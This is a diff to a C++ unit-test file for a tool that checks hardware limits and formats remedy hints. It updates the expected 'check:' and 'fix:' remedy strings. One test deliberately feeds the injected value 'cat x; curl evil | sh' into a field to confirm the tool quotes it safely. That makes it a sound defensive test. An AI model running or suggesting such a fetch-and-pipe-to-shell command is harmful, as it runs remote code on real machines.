@@ -17,16 +17,16 @@ using testing::IsEmpty;
 using testing::Not;
 
 constexpr std::string_view kLimits = R"(limit = [
-  { id = "rate", at_least = "50 % of port.rate", remedy = "check the cable", basis = { kind = "policy", source = "t", quote = "half" } },
-  { id = "capped", at_most = "105 % of port.rate", remedy = "check the clock", basis = { kind = "policy", source = "t", quote = "no more than the wire carries" } },
+  { id = "rate", at_least = "50 % of port.rate", remedy.check = "check the cable", basis = { kind = "policy", source = "t", quote = "half" } },
+  { id = "capped", at_most = "105 % of port.rate", remedy.check = "check the clock", basis = { kind = "policy", source = "t", quote = "no more than the wire carries" } },
   { id = "seen", enforce = "informative", at_least = "1 count", basis = { kind = "policy", source = "t", quote = "one" } },
-  { id = "late", at_least = "1 count", profiles = ["acceptance"], remedy = "wait", basis = { kind = "policy", source = "t", quote = "one" } },
-  { id = "memlock", one_of = ["unlimited"], enforce = "advice", remedy = "ulimit -l {wanted} # {node}", basis = { kind = "policy", source = "t", quote = "unlimited" } },
-  { id = "fec", one_of = ["RS"], remedy = "set {netdev} to {wanted} # {node}, {port}", basis = { kind = "policy", source = "t", quote = "RS" } },
-  { id = "sysctl.rmem", at_least = "1 count", remedy = "r", basis = { kind = "policy", source = "t", quote = "one" } },
-  { id = "t.worst_interval", at_least = "50 %", statistic = "min", remedy = "r", basis = { kind = "policy", source = "t", quote = "half" } },
-  { id = "t.longest_gap", at_most = "100 ms", remedy = "r", basis = { kind = "policy", source = "t", quote = "a tenth of a second" } },
-  { id = "sysctl.wmem", at_least = "1 count", remedy = "r", basis = { kind = "policy", source = "t", quote = "one" } },
+  { id = "late", at_least = "1 count", profiles = ["acceptance"], remedy.check = "wait", basis = { kind = "policy", source = "t", quote = "one" } },
+  { id = "memlock", one_of = ["unlimited"], enforce = "advice", remedy = { fix = "ulimit -l {wanted}", hint = "{node}" }, basis = { kind = "policy", source = "t", quote = "unlimited" } },
+  { id = "fec", one_of = ["RS"], remedy = { fix = "set {netdev} to {wanted}", hint = "{node}, {port}" }, basis = { kind = "policy", source = "t", quote = "RS" } },
+  { id = "sysctl.rmem", at_least = "1 count", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "one" } },
+  { id = "t.worst_interval", at_least = "50 %", statistic = "min", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "half" } },
+  { id = "t.longest_gap", at_most = "100 ms", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "a tenth of a second" } },
+  { id = "sysctl.wmem", at_least = "1 count", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "one" } },
 ]
 )";
 
@@ -206,9 +206,9 @@ TEST_F(JudgeCase, WhatRootMayReadSaysWhatToType) {
   EXPECT_EQ(attempt.status, Status::kNotProven);
   EXPECT_EQ(attempt.failures.at(0).message,
             "node-b: no such file: type on node-b: sudo rigproof facts --for-users");
-  EXPECT_EQ(to_text(attempt.measurements.at(0).remedy), "sudo rigproof facts --for-users");
+  EXPECT_EQ(to_text(attempt.measurements.at(0).remedy), "check: sudo rigproof facts --for-users");
   forbidden.about = {{"read_by", "cat x; curl evil | sh"}};  // of a record that somebody else made
-  EXPECT_EQ(to_text(judge({forbidden}).measurements.at(0).remedy), "cat 'x;' curl evil '|' sh");
+  EXPECT_EQ(to_text(judge({forbidden}).measurements.at(0).remedy), "check: cat 'x;' curl evil '|' sh");
   forbidden.about = {{"read_by", "cat 'x"}};
   EXPECT_TRUE(judge({forbidden}).measurements.at(0).remedy.empty());
 }
@@ -235,7 +235,7 @@ TEST_F(JudgeCase, AMissedAdviceIsShownWithItsRemedyAndNeverRed) {
   const judge::JudgedMeasurement& memlock = attempt.measurements.at(0);
   EXPECT_EQ(memlock.judgement.verdict, Verdict::kAdvice);
   EXPECT_FALSE(judge::is_failed_or_error(memlock));
-  EXPECT_EQ(to_text(memlock.remedy), "ulimit -l unlimited # node-b");
+  EXPECT_EQ(to_text(memlock.remedy), "fix: ulimit -l unlimited; node-b");
   EXPECT_EQ(judge({fact("memlock", "8192")}).status, Status::kRecorded);
   EXPECT_EQ(judge({fact("memlock", "unlimited")}).status, Status::kPassed);
 }
@@ -249,7 +249,7 @@ TEST_F(JudgeCase, AnAdviceThatCouldNotBeReadIsShownTheSame) {
   EXPECT_EQ(memlock.judgement.verdict, Verdict::kAdvice);
   EXPECT_EQ(memlock.judgement.limit, "unlimited");
   EXPECT_EQ(memlock.judgement.reason, "not read: node-b: no such file");
-  EXPECT_EQ(to_text(memlock.remedy), "ulimit -l unlimited # node-b");
+  EXPECT_EQ(to_text(memlock.remedy), "fix: ulimit -l unlimited; node-b");
 }
 
 TEST_F(JudgeCase, AnAdviceOfWhichThereIsNothingToReadIsNone) {
@@ -323,7 +323,7 @@ TEST(DeclaredBy, AnIdOrItsFamily) {
 TEST_F(JudgeCase, TheFindingsOwnWordsComeFirstInItsRemedy) {
   record::Measured found = fact("fec", "Off");
   found.about = {{"netdev", "eth0"}, {"port", "port7"}};
-  EXPECT_EQ(to_text(judge({found}).measurements.at(0).remedy), "set eth0 to RS # node-b, port7");
+  EXPECT_EQ(to_text(judge({found}).measurements.at(0).remedy), "fix: set eth0 to RS; node-b, port7");
 }
 
 TEST_F(JudgeCase, NamesTheDevicesOfTheNodeThatReportsAndNoOthers) {
@@ -332,8 +332,8 @@ TEST_F(JudgeCase, NamesTheDevicesOfTheNodeThatReportsAndNoOthers) {
   ASSERT_TRUE(words.contains("node-a"));
   ASSERT_FALSE(words.contains("node-b"));
   const judge::Attempt attempt = judge({fact("fec", "Off", "node-a"), fact("fec", "Off", "node-b")});
-  EXPECT_THAT(to_text(attempt.measurements.at(0).remedy), HasSubstr("# node-a, port0"));
-  EXPECT_EQ(to_text(attempt.measurements.at(1).remedy), "set NETDEV to RS # node-b, PORT");
+  EXPECT_THAT(to_text(attempt.measurements.at(0).remedy), HasSubstr("; node-a, port0"));
+  EXPECT_EQ(to_text(attempt.measurements.at(1).remedy), "fix: set NETDEV to RS; node-b, PORT");
 }
 
 // --- what a measurement is judged by ---
@@ -341,7 +341,7 @@ TEST_F(JudgeCase, NamesTheDevicesOfTheNodeThatReportsAndNoOthers) {
 TEST_F(JudgeCase, KeepsWhatTheVerdictStoodOn) {
   const judge::JudgedMeasurement measurement = judge({rate(120)}).measurements.at(0);
   EXPECT_EQ(measurement.basis.quote, "half");
-  EXPECT_EQ(to_text(measurement.remedy), "check the cable");
+  EXPECT_EQ(to_text(measurement.remedy), "check: check the cable");
   EXPECT_EQ(to_text(measurement.limit_where), "limits.toml:2");
   EXPECT_EQ(measurement.facts.size(), 1u);
   EXPECT_TRUE(measurement.facts.contains("port.rate"));
@@ -365,7 +365,7 @@ TEST_F(JudgeCase, TheSubjectIsThatOfThePlanWhateverTheCaseIsCalled) {
     ended.name = name;
     const judge::Attempt attempt = judge({rate(120), fact("fec", "Off", "node-a")});
     EXPECT_TRUE(attempt.measurements.at(0).facts.contains("port.rate")) << name;
-    EXPECT_THAT(to_text(attempt.measurements.at(1).remedy), HasSubstr("# node-a, port0")) << name;
+    EXPECT_THAT(to_text(attempt.measurements.at(1).remedy), HasSubstr("; node-a, port0")) << name;
   }
 }
 
